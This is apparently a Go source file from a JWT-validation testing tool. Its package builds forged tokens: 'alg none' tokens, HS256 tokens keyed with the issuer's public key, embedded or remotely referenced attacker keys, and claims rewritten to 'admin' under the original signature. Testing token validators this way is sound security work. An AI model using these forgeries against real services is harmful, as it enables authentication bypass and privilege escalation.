package attacks

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"strings"

	"github.com/go-jose/go-jose/v4"
)

// ErrCannot means that an attack cannot be made from what there is.
var ErrCannot = errors.New("cannot be made")

// A Forge makes what is sent to one service.
type Forge struct {
	Elsewhere string // a scope with the same permissions for another Section; empty: it is not tried

	issuer         *Issuer // its keys sign, or it only lays the baits
	live           string  // a good token of an issuer whose keys only it has
	header, claims object  // of that token
	keys           jose.JSONWebKeySet
	alg, scope     string
}

// Forge returns a forge whose good tokens are signed with an algorithm and hold a scope, which is
// what the service asks for.
func (i *Issuer) Forge(alg, scope string) *Forge {
	return &Forge{issuer: i, alg: alg, scope: scope}
}

// Live returns a forge that has one good token of an issuer and its JWKS, as everybody may. bait
// serves what forged tokens lead to.
func Live(token string, jwks []byte, bait *Issuer) (*Forge, error) {
	f := &Forge{issuer: bait, live: token}
	header, payload, _ := segments(token)
	for segment, members := range map[string]*object{header: &f.header, payload: &f.claims} {
		text, err := base64.RawURLEncoding.DecodeString(segment)
		if err != nil {
			return nil, errors.New("the issuer's token is not a JWT")
		}
		numbers := json.NewDecoder(bytes.NewReader(text))
		numbers.UseNumber()
		if numbers.Decode(members) != nil || *members == nil {
			return nil, errors.New("the issuer's token is not a JWT")
		}
	}
	if err := json.Unmarshal(jwks, &f.keys); err != nil {
		return nil, fmt.Errorf("read the issuer's keys: %w", err)
	}
	f.alg, _ = f.header["alg"].(string)
	f.scope, _ = f.claims["scope"].(string)
	return f, nil
}

// A Request is what is laid over a request that a service answers.
type Request struct {
	Authorization []string // the values of the header field, in this order
	Query         url.Values
}

func bearer(token string) Request { return Request{Authorization: []string{"Bearer " + token}} }

// good is a token that nothing is wrong with. Of a live issuer it is always the same.
func (f *Forge) good() string {
	if f.live != "" {
		return f.live
	}
	return f.genuine(nil, nil)
}

// genuine is a token with changes, which the issuer signed all the same.
func (f *Forge) genuine(header, claims object) string { return f.signedBy(f.alg, header, claims) }

func (f *Forge) signedBy(alg string, header, claims object) string {
	k := f.issuer.key(alg, true)
	return k.compact(encode(changed(k.header(), header)), encode(changed(f.issuer.claims(f.scope), claims)))
}

// payload is a token of the issuer with claims that are no JSON of ours.
func (f *Forge) payload(rewrite func(claims string) string) string {
	k := f.issuer.key(f.alg, true)
	return k.compact(encode(k.header()), []byte(rewrite(string(encode(f.goodClaims())))))
}

// forged is a token with changes, which a stranger signed.
func (f *Forge) forged(header, claims object) string {
	k := f.issuer.stranger(f.alg)
	return k.compact(encode(changed(f.goodHeader(), header)), encode(changed(f.goodClaims(), claims)))
}

// unsigned is a token that says that nobody signed it, with whatever signature.
func (f *Forge) unsigned(alg string, signature []byte) string {
	return b64(encode(changed(f.goodHeader(), object{"alg": alg}))) + "." + b64(encode(f.goodClaims())) + "." + b64(signature)
}

func (f *Forge) goodHeader() object {
	if f.live != "" {
		return f.header
	}
	return f.issuer.key(f.alg, true).header()
}

func (f *Forge) goodClaims() object {
	if f.live != "" {
		return f.claims
	}
	return f.issuer.claims(f.scope)
}

// public is a key of the JWKS: that of good tokens if they are of this algorithm, or any.
func (f *Forge) public(alg string) (jose.JSONWebKey, bool) {
	set := f.keys
	if f.live == "" {
		set = f.issuer.JWKS()
	}
	var found jose.JSONWebKey
	for _, k := range set.Keys {
		if k.Algorithm == alg && (!found.Valid() || k.KeyID == f.goodHeader()["kid"]) {
			found = k
		}
	}
	return found, found.Valid()
}

// hmac is a token whose secret is a key that everybody knows.
func (f *Forge) hmac(alg string, form func(jose.JSONWebKey) []byte) string {
	k, ok := f.public(alg)
	if !ok {
		return ""
	}
	return hs256(encode(changed(f.goodHeader(), object{"alg": "HS256", "kid": k.KeyID})), encode(f.goodClaims()), form(k))
}

// lure is a token whose header leads to a stranger's key, by an address that nobody may follow.
func (f *Forge) lure(member, file string) string {
	query := url.Values{"kid": {fmt.Sprint(f.goodHeader()["kid"])}, "alg": {f.alg}}
	return f.forged(object{member: f.issuer.URL + BaitPath + file + "?" + query.Encode()}, nil)
}

// embedded is the stranger's key in the header, under the kid of the issuer's.
func (f *Forge) embedded() string {
	public := f.issuer.stranger(f.alg).public()
	public.KeyID = fmt.Sprint(f.goodHeader()["kid"])
	return f.forged(object{"jwk": public}, nil)
}

// altered is a good token whose claims say more than the issuer signed.
func (f *Forge) altered() string {
	header, _, signature := segments(f.good())
	return header + "." + b64(encode(changed(f.goodClaims(), object{"sub": "admin", "client_id": "admin"}))) + "." + signature
}

// rekeyed is a good token whose RSA key signed in another way than the one that it is for.
func (f *Forge) rekeyed(alg string) string {
	k := f.issuer.key(RS256, true)
	signed := b64(encode(changed(k.header(), object{"alg": alg}))) + "." + b64(encode(f.goodClaims()))
	return signed + "." + b64(k.sign(alg, signed))
}

// withdrawn is a token of a key that is not published any more.
func (f *Forge) withdrawn() string {
	k := f.issuer.key(f.alg, false)
	if k.private == nil {
		return ""
	}
	return k.compact(encode(k.header()), encode(f.goodClaims()))
}

func scopeArray(scope string) []string { return strings.Fields(scope) }
